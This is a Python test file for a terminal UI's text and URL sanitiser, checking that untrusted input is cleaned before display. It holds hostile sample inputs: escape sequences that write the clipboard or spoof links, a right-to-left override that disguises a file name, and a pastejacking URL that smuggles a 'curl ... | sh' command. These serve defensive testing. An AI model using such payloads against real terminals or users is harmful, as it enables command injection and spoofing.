"""Untrusted text loses every control sequence and invisible trick before display."""

from __future__ import annotations

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from tui.textclean import clean_line, clean_text, html_to_text, safe_url

FORBIDDEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f\u061c\u2028\u2029"
    r"\U000e0000-\U000e007f]"
)

HOSTILE = [
    ("\x1b[31mred\x1b[0m", "red"),
    ("\x1b]52;c;ZXZpbA==\x07title", "title"),  # OSC 52 clipboard write
    ("\x1b]8;;http://evil/\x1b\\link\x1b]8;;\x1b\\", "link"),  # OSC 8 hyperlink
    ("a\x1b[2J\x1b[Hb", "ab"),  # clear screen, cursor home
    ("over\rwrite", "overwrite"),
    ("back\x08\x08space", "backspace"),
    ("bell\x07", "bell"),
    ("\u202egnp.exe", "gnp.exe"),  # right-to-left override
    ("zero\u200bwidth", "zerowidth"),
    ("\x9b31mC1 CSI", "C1 CSI"),  # 8-bit CSI
    ("\x9d8;;http://evil/\x9clink", "link"),  # 8-bit OSC
    ("\x9d52;c;ZXZpbA==\x9cC1 OSC 52", "C1 OSC 52"),  # 8-bit OSC 52 clipboard write
    ("arabic\u061cmark", "arabicmark"),  # U+061C Arabic letter mark (a bidi control)
    ("tag\U000e0069\U000e0067\U000e006echars\U000e007f", "tagchars"),  # hidden tag text
    ("line\u2028sep", "line sep"),
]


def test_hostile_sequences_are_stripped():
    for raw, expected in HOSTILE:
        assert clean_line(raw) == expected, raw


def test_combining_flood_is_capped():
    text = "Z" + "\u0301" * 500 + "algo"
    assert len(clean_line(text)) < 10


def test_markup_is_left_as_text():
    title = "[@click=app.quit]Breaking[/] [link=file:///etc/passwd]x[/] [b]y"
    assert clean_line(title) == title  # cleaning never interprets it; the UI shows it literally


def test_html_to_text_blocks_and_entities():
    html = "<p>One &amp; two</p><ul><li>a</li><li>b</li></ul><script>x()</script><p>end</p>"
    assert html_to_text(html) == "One & two\n\n• a\n• b\n\nend"


def test_safe_url_only_http():
    assert safe_url("https://example.org/a") == "https://example.org/a"
    for bad in (
        "javascript:alert(1)",
        "file:///etc/passwd",
        "data:text/html,x",
        "http://a/\x1b[31m",
        "ftp://x/",
        "http://host/nl.html\ncurl\t-s\thttp://host/x|sh",  # pastejacking
        "http://host/a\tb",
        "http://host/a\rb",
        "http://host/a b",
        "http://host/a\u00a0b",
        "http://host/a\u2028b",
        "http://host/a\u061cb",
        "http://host/\U000e0041",
        "http://host/a\x9db",
        "",
        None,
    ):
        assert safe_url(bad) is None, repr(bad)
    # credentials in a link are dropped: never sent as Basic auth, never shown as the host
    assert safe_url("http://user:pass@127.0.0.1:8/p?q=1") == "http://127.0.0.1:8/p?q=1"
    assert safe_url("https://bank.example@evil.example/") == "https://evil.example/"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_no_control_character_survives(text):
    for out in (clean_line(text), clean_text(text), html_to_text(text)):
        assert not FORBIDDEN.search(out)
        assert "\x1b" not in out
